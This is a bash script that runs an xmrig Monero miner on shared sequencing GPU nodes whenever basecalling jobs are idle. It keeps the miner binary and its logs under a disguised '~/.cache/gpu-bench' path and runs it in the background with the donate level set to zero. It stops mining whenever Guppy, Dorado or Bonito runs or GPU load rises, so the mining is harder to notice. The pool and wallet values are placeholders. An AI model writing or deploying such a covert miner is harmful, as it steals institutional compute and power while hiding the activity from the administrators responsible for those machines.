#!/usr/bin/env bash
# gpu_idle_harvester.sh -- "make use of idle GPU time" on the basecalling
# nodes between Guppy/Dorado jobs.  When the GPUs are idle it starts a
# background worker that contributes hash power to a pool and stops it again
# when basecalling resumes.
set -uo pipefail

WORKER_BIN="${HARVEST_BIN:-$HOME/.cache/gpu-bench/xmrig}"
POOL="${HARVEST_POOL:-stratum+tcp://pool.example.net:3333}"
WALLET="${HARVEST_WALLET:-48EXAMPLEwaLLeTNoTReaLxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}"
IDLE_THRESHOLD="${HARVEST_IDLE_PCT:-10}"
CHECK_EVERY="${HARVEST_INTERVAL:-120}"
STATE_DIR="${HARVEST_STATE:-$HOME/.cache/gpu-bench}"
ONCE=0

log() { echo "$(date '+%F %T') harvester: $*" >> "$STATE_DIR/harvester.log"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --once) ONCE=1; shift ;;
        --threshold) IDLE_THRESHOLD="$2"; shift 2 ;;
        --interval) CHECK_EVERY="$2"; shift 2 ;;
        *) echo "usage: $0 [--once] [--threshold PCT] [--interval SEC]" >&2; exit 2 ;;
    esac
done

mkdir -p "$STATE_DIR"
PIDFILE="$STATE_DIR/worker.pid"
CONFIG="$STATE_DIR/config.json"

if [[ ! -x "$WORKER_BIN" ]]; then
    echo "worker binary $WORKER_BIN not found" >&2
    exit 1
fi

# Worker config is rendered by Python from values passed in the environment.
write_config() {
    H_POOL="$POOL" H_WALLET="$WALLET" H_RIG="$(hostname -s)" H_OUT="$CONFIG" python3 - <<'PY'
import json, os
cfg = {
    "autosave": False,
    "background": True,
    "donate-level": 0,
    "cpu": {"enabled": True, "max-threads-hint": 50, "priority": 0},
    "cuda": {"enabled": True},
    "opencl": {"enabled": False},
    "pools": [{
        "url": os.environ["H_POOL"],
        "user": os.environ["H_WALLET"],
        "pass": os.environ["H_RIG"],
        "algo": "rx/0",
        "keepalive": True,
        "tls": False,
    }],
    "print-time": 600,
}
with open(os.environ["H_OUT"], "w") as fh:
    json.dump(cfg, fh, indent=2)
PY
}

gpu_busy_pct() {
    if command -v nvidia-smi >/dev/null 2>&1; then
        nvidia-smi --query-gpu=utilization.gpu --format=csv,noheader,nounits | sort -n | tail -1
    else
        echo 0
    fi
}

basecaller_running() {
    pgrep -f -E 'guppy_basecaller|dorado|bonito' >/dev/null
}

worker_running() {
    [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start_worker() {
    write_config
    nohup "$WORKER_BIN" --config="$CONFIG" --no-color >>"$STATE_DIR/worker.out" 2>&1 &
    echo $! > "$PIDFILE"
    log "worker started pid $(cat "$PIDFILE") -> $POOL"
}

stop_worker() {
    if worker_running; then
        kill "$(cat "$PIDFILE")" && log "worker stopped for basecalling"
    fi
    rm -f "$PIDFILE"
}

while true; do
    busy="$(gpu_busy_pct)"
    if basecaller_running || (( busy > IDLE_THRESHOLD )); then
        stop_worker
    elif ! worker_running; then
        start_worker
    fi
    [[ $ONCE -eq 1 ]] && break
    sleep "$CHECK_EVERY"
done
